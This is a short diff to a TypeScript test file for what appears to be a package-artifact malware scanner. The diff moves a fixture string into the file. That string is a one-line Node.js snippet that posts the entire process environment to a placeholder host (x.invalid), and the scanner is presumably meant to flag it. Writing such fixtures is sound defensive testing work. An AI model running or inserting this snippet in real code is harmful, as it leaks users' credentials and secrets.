@@ -1,7 +1,10 @@
 import type { Sample } from '../rules/sample';
 import { ecosystemOf, sampleArchive } from '../testing/sample-archive';
-import { hook, JS, many, PY, type SilenceCase as Case } from '../testing/silence-cases';
+import { hook, many, PY, type SilenceCase as Case } from '../testing/silence-cases';
 import { analyzeArtifact } from './analyze-artifact';
+
+/** Sends the environment away. */
+const JS = `require('https').request('https://x.invalid/').end(JSON.stringify(process.env));\n`;
 
 const gyp = (sources: string, folder = ''): Omit<Sample, 'what'> => ({
   format: 'tarball',
